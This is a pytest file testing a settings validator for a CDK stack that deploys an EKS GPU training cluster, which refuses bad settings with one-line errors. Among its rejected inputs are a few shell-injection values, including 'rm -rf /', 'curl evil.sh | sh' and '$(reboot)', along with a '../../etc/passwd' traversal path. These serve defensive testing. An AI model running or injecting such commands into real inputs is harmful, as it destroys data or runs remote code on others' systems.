"""Settings: parsing of cdk.json / -c values, and every refusal as one clear line."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from aws_cdk.assertions import Template

from stacks.context import settings_from_context, settings_from_files
from stacks.settings import Settings, SettingsError, trainer_options
from stacks.validation import access_entry_principal, image_is_pinned, is_hub_model
from tests.conftest import ROOT, base_context


def test_defaults_reproduce_reference_deployment():
    s = settings_from_context(base_context())
    assert (s.region, s.gpu_instance_type, s.gpu_node_count, s.system_instance_type) == (
        "us-east-2", "g6.12xlarge", 2, "m7i.xlarge")
    assert s.kubernetes_version == "1.36" and s.use_placement_group


def test_dataclass_defaults_equal_cdk_json():
    assert settings_from_context(base_context()) == Settings()


def test_cli_strings_are_parsed_to_field_types():
    s = settings_from_context(base_context() | {
        "gpu_node_count": "4", "gpu_node_taint": "false", "availability_zones": "us-east-2a,us-east-2c",
        "training.learning_rate": "1e-4", "tags": '{"team": "ml"}'})
    assert s.gpu_node_count == 4 and s.gpu_node_taint is False
    assert s.availability_zones == ("us-east-2a", "us-east-2c")
    assert s.training.learning_rate == 1e-4 and s.tags == {"team": "ml"}


def test_cdk_owned_context_keys_are_ignored():
    with_cdk_keys = settings_from_context(base_context() | {"@aws-cdk/core:newStyleStackSynthesis": True,
                                                            "availability-zones:account=1:region=us-east-2": ["a"],
                                                            "aws-cdk:enableDiffNoFail": True})
    assert with_cdk_keys == settings_from_context(base_context())


BAD_SETTINGS = [
    # instance types
    ({"gpu_instance_type": "g4dn.xlarge"}, r"gpu_instance_type: g4dn.xlarge does not support EFA"),
    ({"gpu_instance_type": "g9.huge"}, r"gpu_instance_type: 'g9.huge' is not in the instance table"),
    ({"gpu_instance_type": "m7i.xlarge"}, r"gpu_instance_type: m7i.xlarge has no GPU"),
    ({"system_instance_type": "g6.12xlarge"}, r"system_instance_type: .* must be a CPU type"),
    # where
    ({"region": "mars-1"}, r"region: 'mars-1' is not an AWS region"),
    ({"region": "us-east-9"}, r"region: 'us-east-9' is not an AWS region"),
    ({"gpu_availability_zone": "us-west-2a"}, r"gpu_availability_zone: 'us-west-2a' must be one of availability_zones"),
    ({"availability_zones": ["us-east-2a", "eu-west-1b"]}, r"availability_zones: 'eu-west-1b' is not an AZ of region us-east-2"),
    ({"availability_zones": ["us-east-2a"]}, r"availability_zones: need two to 6 distinct AZs"),
    ({"availability_zones": ["us-east-2a", "us-east-2a"]}, r"availability_zones: need two to 6 distinct AZs"),
    ({"availability_zones": [f"us-east-2{c}" for c in "abcdefg"]}, r"availability_zones: need two to 6 distinct AZs"),
    ({"availability_zones": "us-east-2a,7"}, r"availability_zones: '7' is not an AZ of region us-east-2"),
    ({"account": "12345"}, r"account: '12345' must be 12 digits or null"),
    ({"stack_name": "1stack"}, r"stack_name: '1stack' must start with a letter"),
    ({"stack_name": "a" * 101}, r"stack_name: 'a+' must start with a letter .* at most 100 characters"),
    ({"stack_name": "my_stack"}, r"stack_name: 'my_stack' must start with a letter and hold only letters, digits and '-'"),
    # network
    ({"vpc_cidr": "10.0.0.0/33"}, r"vpc_cidr: '10.0.0.0/33' is not an IPv4 CIDR"),
    ({"vpc_cidr": "10.0.0.0/24"}, r"vpc_cidr: '10.0.0.0/24' must have a prefix between /16 and /20"),
    ({"vpc_cidr": "10.0.0.1/16"}, r"vpc_cidr: '10.0.0.1/16' is not an IPv4 CIDR"),
    ({"vpc_cidr": "169.254.0.0/16"}, r"vpc_cidr: '169.254.0.0/16' overlaps a range AWS refuses"),
    ({"vpc_cidr": "fd00::/64"}, r"vpc_cidr: 'fd00::/64' is not an IPv4 CIDR"),
    ({"nat_gateways": 3}, r"nat_gateways: 3 must be between 1 and the number of AZs \(2\)"),
    ({"nat_gateways": 0}, r"nat_gateways: 0 must be between 1 and the number of AZs"),
    # cluster
    ({"kubernetes_version": "1.29"}, r"kubernetes_version: EKS can no longer create 1.29 \(extended support ended 2026-03-23\)"),
    ({"kubernetes_version": "1.35"}, r"kubernetes_version: 1.35 has no matching kubectl layer installed"),
    ({"kubernetes_version": "2.0"}, r"kubernetes_version: '2.0' is not a version EKS creates"),
    ({"kubernetes_version": 1.36}, r"kubernetes_version: expected a string, got 1.36"),
    ({"endpoint_access": "open"}, r"endpoint_access: 'open' must be one of public, private, public_and_private"),
    ({"endpoint_public_cidrs": []}, r"endpoint_public_cidrs: a public endpoint needs at least one CIDR"),
    ({"endpoint_public_cidrs": ["1.2.3.4/40"]}, r"endpoint_public_cidrs: '1.2.3.4/40' is not an IPv4 CIDR"),
    # EKS service quotas: 40 public endpoint CIDR ranges per cluster, not adjustable
    ({"endpoint_public_cidrs": [f"203.0.113.{i}/32" for i in range(41)]},
     r"^endpoint_public_cidrs: 41 CIDRs; EKS takes at most 40 per cluster \(a quota that cannot be raised\): merge ranges$"),
    ({"endpoint_public_cidrs": [f"203.0.113.{i}/32" for i in range(40)]}, None),
    ({"admin_principal_arn": "admin"}, r"admin_principal_arn: 'admin' must be an IAM role or user ARN"),
    ({"admin_principal_arn": "arn:aws:sts::123456789012:federated-user/bob"},
     r"admin_principal_arn: .* is a federated-user, which EKS access entries do not take"),
    ({"admin_principal_arn": "arn:aws:iam::123456789012:root"}, r"admin_principal_arn: .* is a root, which EKS access entries"),
    ({"admin_principal_arn": "arn:aws:iam::123456789012:group/admins"}, r"admin_principal_arn: .* is a group"),
    ({"admin_principal_arn": "arn:aws-cn:iam::123456789012:role/admin"},
     r"admin_principal_arn: .* is in partition aws-cn, region us-east-2 in aws"),
    # nodes
    ({"gpu_node_count": 0}, r"gpu_node_count: 0 must be between 1 and 64"),
    ({"gpu_node_count": 65}, r"gpu_node_count: 65 must be between 1 and 64"),
    ({"gpu_node_count": "two"}, r"gpu_node_count: expected an integer, got 'two'"),
    ({"gpu_node_count": 2.5}, r"gpu_node_count: expected an integer, got 2.5"),
    ({"gpu_node_count": True}, r"gpu_node_count: expected an integer, got True"),
    ({"system_node_count": 0}, r"system_node_count: 0 must be between 1 and 10"),
    ({"system_node_count": 11}, r"system_node_count: 11 must be between 1 and 10"),
    ({"system_node_disk_gib": 20}, r"system_node_disk_gib: 20 must be between 50 and 16384"),
    ({"system_node_disk_gib": 16385}, r"system_node_disk_gib: 16385 must be between 50 and 16384"),
    ({"gpu_node_disk_gib": 20}, r"gpu_node_disk_gib: 20 must be between 100 and 16384"),
    ({"gpu_node_disk_gib": 16385}, r"gpu_node_disk_gib: 16385 must be between 100 and 16384"),
    ({"gpu_node_taint": "sometimes"}, r"gpu_node_taint: expected true or false"),
    ({"capacity_reservation_id": "cr-123"}, r"capacity_reservation_id: 'cr-123' must look like cr-0123456789abcdef0"),
    ({"placement_group": "maybe"}, r"placement_group: 'maybe' must be one of auto, on, off"),
    ({"log_retention_days": 10}, r"log_retention_days: 10 is not a CloudWatch retention; allowed: 1, 3, 5, 7, 14, 30"),
    # tags (AWS tag rules)
    ({"tags": {"aws:owner": "x"}}, r"tags: 'aws:owner' may not start with 'aws:'"),
    ({"tags": {"AWS:owner": "x"}}, r"tags: 'AWS:owner' may not start with 'aws:'"),
    ({"tags": {"k" * 129: "x"}}, r"tags: 'k+' must be 1-128 characters"),
    ({"tags": {"team": "v" * 257}}, r"tags: 'team' must be 1-128 characters with a value of at most 256"),
    ({"tags": {"cost;center": "x"}}, r"tags: 'cost;center' may hold only letters, digits, spaces"),
    ({"tags": {f"k{i}": "v" for i in range(51)}}, r"tags: 51 tags; AWS allows at most 50"),
    ({"tags": "team=ml"}, r"tags: expected JSON, got 'team=ml'"),
    ({"tags": {"team": 5}}, r"tags: expected an object of string values"),
    # unknown keys
    ({"gpu_nodes": 2}, r"gpu_nodes: unknown setting; known settings: "),
    ({"worker_gpus": 4}, r"worker_gpus: unknown setting"),
    ({"training.stepz": 5}, r"training.stepz: unknown setting"),
    ({"training": "steps=5"}, r"training: expected a JSON object"),
    # training: the cluster's own limits
    ({"training.image": "ray"}, r"training.image: 'ray' must be registry/repository:tag"),
    ({"training.image": "rayproject/ray:2.58.0;rm -rf /"}, r"training.image: .* must be registry/repository:tag"),
    ({"training.active_deadline_seconds": 0}, r"training.active_deadline_seconds: 0 must be between 60 and 604800"),
    ({"training.backoff_limit": -1}, r"training.backoff_limit: -1 must be between 0 and 10"),
    ({"training.backoff_limit": 11}, r"training.backoff_limit: 11 must be between 0 and 10"),
    ({"training.max_failures": -1}, r"training.max_failures: -1 must be between 0 and 100"),
    # training: what the trainer itself refuses, named by the setting
    ({"training.steps": "many"}, r"training.steps: expected an integer, got 'many'"),
    ({"training.steps": 0}, r"training.steps: 0 must be between 1 and 10,000,000"),
    ({"training.steps": 10**9}, r"training.steps: 1000000000 must be between 1 and 10,000,000"),
    ({"training.micro_batch": 0}, r"training.micro_batch: 0 must be between 1 and 4096"),
    # 65,536 tokens over 3 x 4 GPUs x 1 x 2,048: 65,536 / 24,576 = 2.67 micro-batches; 2 and 3 give 49,152 and 73,728.
    ({"gpu_node_count": 3}, r"training.batch_tokens: 65,536 is not a multiple of 12 workers \(gpu_node_count\) x 1 "
     r"sequences \(training.micro_batch\) x 2,048 tokens \(training.seq_len\) = 24,576 \(at most 65,536 times\); "
     r"nearest valid: 49,152 or 73,728"),
    ({"training.batch_tokens": 0}, r"training.batch_tokens: 0 is not a multiple of 8 workers .* nearest valid: 16,384$"),
    ({"training.grad_accum": 4}, r"training.grad_accum: unknown setting; known: .*batch_tokens"),
    # 16 H100s x 8 x 4096 = 524,288 tokens in one micro-batch each (2,048-token loss chunks): over 80 GB in every layout.
    ({"gpu_instance_type": "p5.48xlarge", "training.batch_tokens": 524288, "training.seq_len": 4096,
      "training.micro_batch": 8, "training.activation_checkpointing": False},
     r"training.micro_batch: 8 x 4096 tokens per micro-batch without recomputation needs 80.7 GiB/GPU on "
     r"2 x p5.48xlarge \(80 GB per GPU\); micro-batch 4 x 2 accumulation, no recomputation fits"),
    # A shape too big for the GPUs, set by hand, is refused at synth with what fits at the same batch; left to auto,
    # nothing too big is picked, and when nothing fits at all, the setting to change is the GPUs (or the sharding).
    ({"training.micro_batch": 4, "training.activation_checkpointing": "none"},
     r"^training.activation_checkpointing: 4 x 2048 tokens per micro-batch without recomputation needs [\d.]+ GiB/GPU "
     r"on 2 x g6.12xlarge \(24 GB per GPU\); micro-batch 4 x 1 accumulation, \w+ recomputation fits at [\d.]+ GiB "
     r"\(~[\d,]+ tok/s/GPU\), the same tokens per step$"),
    ({"training.model": "Qwen/Qwen2.5-14B"}, r"^gpu_instance_type: qwen2.5-14b fits in no layout, micro-batch or "
     r"recomputation on 2 x g6.12xlarge \(24 GB per GPU\): the smallest needs [\d.]+ GiB/GPU, auto allows [\d.]+ \(90% of [\d.]+ usable\); use GPUs with more "
     r"memory, more nodes, or LoRA$"),
    ({"gpu_node_count": 4, "training.model": "Qwen/Qwen2.5-7B", "training.sharding": "hybrid"},
     r"^training.sharding: 2 x 2048 tokens per GPU per step, at any micro-batch, with any recomputation needs at least "
     r"[\d.]+ GiB/GPU on 4 x g6.12xlarge \(24 GB per GPU\) with hybrid sharding; full, micro-batch "),
    ({"training.micro_batch": True}, r"^training.micro_batch: expected an integer or a string, got True$"),
    ({"training.activation_checkpointing": 1}, r"^training.activation_checkpointing: expected a string or true or false, "
     r"got 1$"),
    ({"training.activation_checkpointing": "half"}, r"^training.activation_checkpointing: 'half' must be one of none, "
     r"selective, full, auto$"),
    ({"training.learning_rate": 0}, r"training.learning_rate: 0.0 must be in \(0, 1\)"),
    ({"training.learning_rate": "fast"}, r"training.learning_rate: expected a number, got 'fast'"),
    ({"training.seq_len": 4}, r"training.seq_len: 4 must be between 8 and 131072"),
    ({"training.seq_len": 65536}, r"training.seq_len: 65536 exceeds Qwen/Qwen2.5-1.5B's 32768 positions"),
    ({"training.checkpoint_every": 500}, r"training.checkpoint_every: 500 must be between 0 \(only at the end\) and the number of steps \(200\)"),
    ({"training.loss_chunk_tokens": 0}, r"training.loss_chunk_tokens: 0 must be between 1 and"),
    ({"gpu_node_count": 64, "gpu_instance_type": "p5.48xlarge", "training.steps": 5, "training.checkpoint_every": 0,
      "training.batch_tokens": 1048576}, None),  # 512 GPUs x 2,048 tokens
    ({"training.model": "no such model"}, r"training.model: 'no such model' is not a built-in"),
    # pod paths: the RayJob's working directory is not the user's (a relative path names nothing there)
    ({"training.model": "../../etc/passwd"}, r"^training.model: '../../etc/passwd' is not an absolute path, and the pods' "
     r"working directory is not yours; give a built-in \(qwen2.5-1.5b, tiny\), a hub id org/name, an absolute pod path"),
    ({"training.model": "./my-model"}, r"^training.model: './my-model' is not an absolute path"),
    ({"training.model": "~/models/qwen"}, r"^training.model: '~/models/qwen' is not an absolute path"),
    # A model of unknown shape: auto cannot plan it, and says which settings to give instead.
    ({"training.model": "/models/qwen"}, r"^training.model: cannot read /models/qwen/config.json here .*; or set "
     r"training.micro_batch, training.activation_checkpointing and training.sharding instead of auto$"),
    # The synth resolves the sharding too, so a model the planner cannot size needs one set.
    ({"training.model": "/models/qwen", "training.micro_batch": 1, "training.activation_checkpointing": "full"},
     r"^training.model: cannot read /models/qwen/config.json here .*; or set training.micro_batch, "
     r"training.activation_checkpointing and training.sharding instead of auto$"),
    ({"training.model": "/models/qwen", "training.micro_batch": 1, "training.activation_checkpointing": "full",
      "training.sharding": "hybrid"}, None),
    ({"training.data": "data/train.jsonl"}, r"^training.data: 'data/train.jsonl' is not an absolute path, and the pods' "
     r"working directory is not yours; give random, pattern, hf:org/name\[:split\], an absolute pod path"),
    ({"training.data": "train.jsonl"}, r"^training.data: 'train.jsonl' is not an absolute path"),
    ({"training.data": "hf:./saved:train"}, r"^training.data: 'hf:./saved:train' is not an absolute path"),
    ({"training.data": "/data/train.jsonl"}, None),
    ({"training.data": "hf:/data/saved:train"}, None),
    ({"training.chat_template": "templates/chat.jinja"}, r"^training.chat_template: 'templates/chat.jinja' is not an "
     r"absolute path, and the pods' working directory is not yours"),
    ({"training.chat_template": "/templates/chat.jinja"}, None),
    ({"training.chat_template": "Qwen/Qwen2.5-1.5B-Instruct"}, None),
    ({"training.chat_template": "/templates/chat.html"}, r"^training.chat_template: '/templates/chat.html' must be a "
     r".jinja/.j2/.txt file or a Hub model id"),
    ({"training.shuffle": "sometimes"}, r"^training.shuffle: expected true or false"),
    ({"training.data": "/data/train.jsonl", "training.val_data": "val/"}, r"^training.val_data: 'val/' is not an absolute path"),
    ({"training.model": "Qwen/../../x"}, r"training.model: 'Qwen/../../x' is not a built-in"),
    ({"training.model": "s3://"}, r"training.model: 's3://' must be s3://bucket/prefix with a valid bucket name"),
    ({"training.data": "gs://bucket/x.jsonl"}, r"training.data: 'gs://bucket/x.jsonl' must be a local path, file:// or s3://bucket/prefix"),
    ({"training.data": "s3:///train.jsonl"}, r"training.data: 's3:///train.jsonl' must be s3://bucket/prefix with a valid bucket name"),
    ({"training.data": "s3://My_Bucket/x.jsonl"}, r"training.data: .* with a valid bucket name"),
    ({"training.data": "/data/train.csv"}, r"training.data: '/data/train.csv' must be random, pattern, hf:org/name\[:split\], a .jsonl/.json/.parquet file"),
    ({"training.data": "/data/x.jsonl; curl evil.sh | sh"}, r"training.data: .* \(no spaces or shell characters\)"),
    ({"training.data": "$(reboot)"}, r"training.data: .* \(no spaces or shell characters\)"),
    ({"training.data": "/data/`id`.jsonl"}, r"training.data: .* \(no spaces or shell characters\)"),
    ({"training.data": ""}, r"training.data: '' may hold only"),
    ({"training.require_efa": "maybe"}, r"training.require_efa: expected true or false"),
    ({"training.sharding": "ring"}, r"^training.sharding: 'ring' must be one of auto, full, hybrid$"),
    ({"training.reduce_dtype": "fp8"}, r"^training.reduce_dtype: 'fp8' must be one of fp32, bf16$"),
    ({"training.model_revision": "bad rev"}, r"^training.model_revision: 'bad rev' must be a commit hash, branch or tag"),
    ({"training.tracking": "wandb"}, r"^training.wandb_api_key_secret: the Secrets Manager secret holding the W&B API key "
     r"is needed with training.tracking wandb, and only then$"),
    ({"training.wandb_api_key_secret": "wandb-key"}, r"^training.wandb_api_key_secret: .* and only then \(training.tracking is none\)$"),
    ({"training.tracking": "wandb", "training.wandb_api_key_secret": "wandb key"},
     r"^training.wandb_api_key_secret: 'wandb key' must be a Secrets Manager secret name"),
    ({"training.tracking": "wandb", "training.wandb_api_key_secret": "arn:aws:secretsmanager:us-west-2:123456789012:secret:k-AbCdEf"},
     r"^training.wandb_api_key_secret: .* is not in the stack's region us-east-2; the pods read the secret there$"),
    ({"account": "111122223333", "training.tracking": "wandb",
      "training.wandb_api_key_secret": "arn:aws:secretsmanager:us-east-2:123456789012:secret:k-AbCdEf"},
     r"^training.wandb_api_key_secret: .* is not in the stack's region us-east-2 and account 111122223333"),
    ({"account": "111122223333", "training.tracking": "mlflow", "training.mlflow_tracking_uri": "arn:aws:sagemaker:us-east-2:123456789012:mlflow-tracking-server/team"},
     r"^training.mlflow_tracking_uri: .* is in account 123456789012, the stack in 111122223333: SageMaker MLflow takes no "
     r"resource policy"),
    ({"training.tracking": "mlflow"}, r"^training.tracking: mlflow needs training.mlflow_tracking_uri"),
    ({"training.tracking": "mlflow", "training.mlflow_tracking_uri": "mlflow:5000"},
     r"^training.mlflow_tracking_uri: 'mlflow:5000' must be http\(s\)://host"),
    ({"availability_zones": ["us-east-2a", 1]}, r"^availability_zones: expected a list of strings, got \['us-east-2a', 1\]$"),
    ({"training": "[1]"}, r"^training: expected an object, got \[1\]$"),
]
@pytest.mark.parametrize("overrides,message", BAD_SETTINGS, ids=[next(iter(o)) + "-" + str(i) for i, (o, _) in enumerate(BAD_SETTINGS)])
def test_bad_setting_is_refused_with_one_line(overrides, message):
    if message is None:  # accepted on purpose: an absolute pod path is the trainer's to find, a large cluster and 40 CIDRs are fine
        settings_from_context(base_context() | overrides)
        return
    with pytest.raises(SettingsError, match=message) as error:
        settings_from_context(base_context() | overrides)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("arn,converted", [
    ("arn:aws:sts::123456789012:assumed-role/Admin/alice@example.com", "arn:aws:iam::123456789012:role/Admin"),
    ("arn:aws-us-gov:sts::123456789012:assumed-role/ops/i-0abc", "arn:aws-us-gov:iam::123456789012:role/ops"),
])
def test_assumed_role_session_becomes_its_role(arn, converted):
    principal, note = access_entry_principal(arn)
    assert principal == converted
    assert note.startswith(f"admin_principal_arn: the STS session {arn} became {converted}")
    assert "aws iam get-role" in note


@pytest.mark.parametrize("arn", ["arn:aws:iam::123456789012:role/platform/admin", "arn:aws:iam::123456789012:user/alice"])
def test_iam_role_and_user_arns_pass_unchanged(arn):
    assert access_entry_principal(arn) == (arn, None)


@pytest.mark.parametrize("arn", ["arn:aws:iam::123456789012:role//admin", "arn:aws:iam::123456789012:role/admin/"])
def test_role_arn_with_an_empty_path_segment_is_refused(arn):
    with pytest.raises(SettingsError) as error:
        access_entry_principal(arn)
    assert str(error.value) == (f"admin_principal_arn: {arn!r} must be an IAM role or user ARN "
                                "(arn:aws:iam::<account>:role/<name>) or an STS assumed-role ARN")


@pytest.mark.parametrize("arn,kind", [
    ("arn:aws:sts::123456789012:assumed-role/Admin", "assumed-role"),  # the role of a session, without the session
    ("arn:aws:iam::123456789012:instance-profile/gpu", "instance-profile"),
    ("arn:aws:iam::123456789012:policy/admin", "policy"),
])
def test_arns_that_access_entries_do_not_take_are_named(arn, kind):
    with pytest.raises(SettingsError) as error:
        access_entry_principal(arn)
    assert str(error.value) == (f"admin_principal_arn: {arn!r} is a {kind}, which EKS access entries do not take; "
                                "give an IAM role or user ARN (arn:aws:iam::<account>:role/<name>)")


@pytest.mark.parametrize("model,hub", [
    ("Qwen/Qwen2.5-1.5B", True),
    ("qwen2.5-1.5b", False),  # a built-in config
    ("tiny", False),
    ("s3://bucket/models/m", False),
    ("/models/m", False),
    ("./models/m", False),
    ("~/models/m", False),
    ("models/org/m", False),  # two slashes: a relative path, not org/name
    ("m", False),
    ("/m", False), ("./m", False), ("~/m", False),  # one slash, still a path
])
def test_is_hub_model(model, hub):
    assert is_hub_model(model) is hub


def test_converted_admin_arn_reaches_the_access_entry_with_a_warning():
    from aws_cdk.assertions import Annotations, Match

    from cdk_constructs.cluster import EksCluster
    from tests.conftest import synth_stack

    stack = synth_stack(admin_principal_arn="arn:aws:sts::123456789012:assumed-role/Admin/alice")
    entries = [r for r in Template.from_stack(stack).find_resources("AWS::EKS::AccessEntry").values()
               if r["Properties"]["PrincipalArn"] == "arn:aws:iam::123456789012:role/Admin"]
    assert len(entries) == 1
    # The note is the cluster construct's warning (cdk_constructs/cluster.py), where `cdk synth` shows it.
    [eks] = [c for c in stack.node.find_all() if isinstance(c, EksCluster)]
    Annotations.from_stack(stack).has_warning(f"/{eks.node.path}",
                                              Match.string_like_regexp("the STS session .* became .*role/Admin"))


def test_cdk_json_that_is_not_json_is_one_line(tmp_path):
    bad = tmp_path / "cdk.json"
    bad.write_text("{ not json")
    with pytest.raises(SettingsError, match=r"cdk.json: not JSON \(Expecting property name enclosed in double quotes at line 1\)"):
        settings_from_files(bad)
    with pytest.raises(SettingsError, match=r": no such file"):
        settings_from_files(tmp_path)  # a folder
    (tmp_path / "list.json").write_text("[1, 2]")
    with pytest.raises(SettingsError, match=r"expected a JSON object with a \"context\" object"):
        settings_from_files(tmp_path / "list.json")


def test_override_without_equals_is_refused():
    with pytest.raises(SettingsError, match=r"-c 'gpu_node_count': expected key=value"):
        settings_from_files(ROOT / "cdk.json", ["gpu_node_count"])


def test_trainer_options_are_the_training_settings_under_the_trainers_names():
    options = trainer_options(settings_from_context(base_context()))
    assert options["lr"] == 2e-5 and "learning_rate" not in options
    assert options["workers"] == 8 and options["require_efa"] is True
    assert not {"image", "active_deadline_seconds", "backoff_limit", "checkpoint_bucket_auto_delete"} & set(options)


@pytest.mark.parametrize("value,recomputation", [(True, "full"), (False, "none"), ("true", "full"), ("false", "none"),
                                                  ("selective", "selective"), ("auto", "auto")])
def test_the_old_boolean_recomputation_still_reaches_the_trainer_as_full_or_none(value, recomputation):
    """cdk.json's true/false (and -c's strings) from before the three settings: the RayJob's entrypoint carries them
    in a form the trainer reads as full or none."""
    import shlex

    from cdk_constructs.ray_manifests import train_entrypoint
    from training.command_line import parse_args

    options = trainer_options(settings_from_context(base_context() | {"training.activation_checkpointing": value,
                                                                       "training.micro_batch": "1"}))
    assert options["micro_batch"] == 1  # a -c number is a number, auto stays a word
    assert parse_args(shlex.split(train_entrypoint(options))[3:]).activation_checkpointing == recomputation


def test_every_trainer_option_setting_names_a_real_trainer_option():
    import dataclasses

    from training.config import TrainConfig

    trainer_fields = {f.name for f in dataclasses.fields(TrainConfig)}
    assert set(trainer_options(settings_from_context(base_context()))) <= trainer_fields


def test_the_deploy_tools_do_not_need_torch():
    """make preflight/deploy/watch/destroy run from the synth-only venv, where torch is not installed."""
    code = ("import sys, tools.preflight, tools.watch, tools.deploy, tools.teardown, tools.review, tools.cluster_status; "
            "sys.exit('torch' in sys.modules)")
    assert subprocess.run([sys.executable, "-c", code], cwd=ROOT, timeout=120).returncode == 0


def test_bad_setting_from_cdk_cli_prints_one_line_and_no_traceback(tmp_path):
    # What `cdk synth -c gpu_node_count=0` runs: the app with the context in CDK_CONTEXT_JSON.
    env = os.environ | {"CDK_CONTEXT_JSON": json.dumps({"gpu_node_count": "0"}), "CDK_OUTDIR": str(tmp_path)}
    result = subprocess.run([sys.executable, "app.py"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode != 0
    assert "error: gpu_node_count: 0 must be between 1 and 64" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("image,pinned", [
    ("public.ecr.aws/deep-learning-containers/ray:train-ml-cuda-v1.1", False),
    ("public.ecr.aws/deep-learning-containers/ray:train-ml-cuda-v1.1.3", True),
    ("rayproject/ray:2.58.0-py311-gpu", True),
    ("registry.example.com:5000/team/ray@sha256:" + "a" * 64, True),
    ("rayproject/ray:latest", False),
    ("ray:2.58.0", True),  # Docker Hub's library images have no repository path
    ("localhost:5000/ray-2.58.0:latest", False),  # a version in the repository name pins nothing
])
def test_image_is_pinned(image, pinned):
    assert image_is_pinned(image) is pinned


# Every range's ends are inside it: a guard tightened by one (< for <=, 61 for 60) fails here.
EDGES_ACCEPTED = [
    {"availability_zones": ["us-east-2a", "us-east-2b"], "gpu_availability_zone": "us-east-2a", "nat_gateways": 2},
    {"availability_zones": [f"us-east-2{z}" for z in "abcdef"], "gpu_availability_zone": "us-east-2f", "nat_gateways": 6},
    {"system_node_count": 1}, {"system_node_count": 10}, {"system_node_disk_gib": 50}, {"system_node_disk_gib": 16384},
    {"gpu_node_count": 1}, {"gpu_node_count": 64, "training.batch_tokens": 524288},  # 256 GPUs x 2,048
    {"gpu_node_disk_gib": 100}, {"gpu_node_disk_gib": 16384},
    {"vpc_cidr": "10.0.0.0/16"}, {"vpc_cidr": "10.0.0.0/20"},
    {"endpoint_public_cidrs": ["0.0.0.0/0", "203.0.113.7/32"]}, {"account": "123456789012"},
    {"admin_principal_arn": "arn:aws:iam::123456789012:role/Admin"},
    {"tags": {f"k{i}": "v" for i in range(50)}}, {"tags": {"k" * 128: "v" * 256}}, {"tags": {"k": ""}},
    {"training.active_deadline_seconds": 60, "training.pre_running_deadline_seconds": 59},
    {"training.active_deadline_seconds": 7 * 24 * 3600}, {"training.pre_running_deadline_seconds": 1},
    {"training.max_failures": 0}, {"training.max_failures": 100},
    {"training.backoff_limit": 0}, {"training.backoff_limit": 10},
    {"training.submitter_backoff_limit": 0}, {"training.submitter_backoff_limit": 10},
    {"training.ttl_seconds_after_finished": 0}, {"training.ttl_seconds_after_finished": 86400},
    {"training.rerun": 999}, {"gpu_scale_down_delay_minutes": 1}, {"gpu_scale_down_delay_minutes": 1440},
    {"training.ray_version": "2.52.0"}, {"training.hf_token_secret": "a"}, {"training.hf_token_secret": "hf-token.v2"},
    {"training.image": "public.ecr.aws/org/ray@sha256:" + "0" * 64},
    {"training.image": "docker.io/rayproject/ray:2.58.0", "image_pull_through_cache": False},
    # The default run needs 34.7 s to save a drained pod's step (planning/checkpoint_time.py).
    {"training.termination_grace_period_seconds": 35}, {"training.termination_grace_period_seconds": 3600},
    # A SageMaker MLflow ARN's fields: arn:partition:sagemaker:region:account:resource; the account is the fifth.
    {"account": "123456789012", "training.tracking": "mlflow",
     "training.mlflow_tracking_uri": "arn:aws:sagemaker:us-east-2:123456789012:mlflow-tracking-server/team"},
]


@pytest.mark.parametrize("overrides", EDGES_ACCEPTED, ids=[str(i) for i in range(len(EDGES_ACCEPTED))])
def test_the_ends_of_every_range_are_accepted(overrides):
    settings_from_context(base_context() | overrides)


@pytest.mark.parametrize("overrides,message", [
    ({"training.active_deadline_seconds": 59}, r"^training.active_deadline_seconds: 59 must be between 60 and 604800$"),
    # KubeRay v1.7.0 rayjob_controller.go checks activeDeadlineSeconds first and never retries DeadlineExceeded.
    ({"training.pre_running_deadline_seconds": 14400}, r"^training.pre_running_deadline_seconds: 14400 must be positive and "
     r"below training.active_deadline_seconds \(14400\), which KubeRay checks first and never retries$"),
    ({"training.pre_running_deadline_seconds": 0}, r"^training.pre_running_deadline_seconds: 0 must be positive"),
    ({"training.image": "docker.io/rayproject/ray:2.58.0"}, r"^image_pull_through_cache: caches public.ecr.aws images only, "
     r"training.image is 'docker.io/rayproject/ray:2.58.0'; set -c image_pull_through_cache=false$"),
    ({"training.active_deadline_seconds": 604801}, r"^training.active_deadline_seconds: 604801 must be between 60 and 604800$"),
    ({"training.max_failures": 101}, r"^training.max_failures: 101 must be between 0 and 100$"),
    ({"training.backoff_limit": 11}, r"^training.backoff_limit: 11 must be between 0 and 10 \(retries of the whole job "
                                     r"on a new cluster; retries inside one are training.max_failures\)$"),
    ({"training.submitter_backoff_limit": -1}, r"^training.submitter_backoff_limit: -1 must be between 0 and 10$"),
    ({"training.ttl_seconds_after_finished": 86401},
     r"^training.ttl_seconds_after_finished: 86401 must be between 0 and 86400 \(the finished job's cluster"),
    ({"training.rerun": 1000}, r"^training.rerun: 1000 must be between 0 and 999$"),
    ({"training.termination_grace_period_seconds": 3601},
     r"^training.termination_grace_period_seconds: 3601 must be between 1 and 3600$"),
    ({"training.termination_grace_period_seconds": 0}, r"^training.termination_grace_period_seconds: 0 must be between 1"),
    ({"gpu_scale_down_delay_minutes": 0}, r"^gpu_scale_down_delay_minutes: 0 must be between 1 and 1440$"),
    ({"gpu_scale_to_zero": "maybe"}, r"^gpu_scale_to_zero: expected true or false, got 'maybe'$"),
    ({"training.ray_version": "2.51.9"}, r"^training.ray_version: '2.51.9' must be the image's Ray version, 2.52.0 or later "
                                         r"\(KubeRay's token authentication needs it\)$"),
    ({"training.hf_token_secret": "HF"}, r"^training.hf_token_secret: 'HF' must be a Kubernetes Secret name"),
    ({"tags": {"k" * 129: "v"}}, r"^tags: 'k{129}' must be 1-128 characters with a value of at most 256$"),
    ({"tags": {"k": "v" * 257}}, r"^tags: 'k' must be 1-128 characters with a value of at most 256$"),
    ({"tags": {f"k{i}": "v" for i in range(51)}}, r"^tags: 51 tags; AWS allows at most 50 per resource$"),
])
def test_just_past_the_ends_is_refused_with_the_exact_line(overrides, message):
    with pytest.raises(SettingsError, match=message):
        settings_from_context(base_context() | overrides)


def test_a_grace_period_shorter_than_a_drained_pods_save_is_refused():
    """The default run: one 2.1 s step, then 9.8 GB a node written (2.9 s) and uploaded (28.7 s) and committed (1 s):
    34.7 s; 34 would kill the pod before its checkpoint is committed."""
    with pytest.raises(SettingsError, match=r"^training.termination_grace_period_seconds: 34 is below the 35 s a drained "
                       r"pod needs to save its step \(one step, then 9.8 GB a node written and uploaded; "
                       r"planning/checkpoint_time.py\): give at least 35, or null for the default$"):
        settings_from_context(base_context() | {"training.termination_grace_period_seconds": 34})


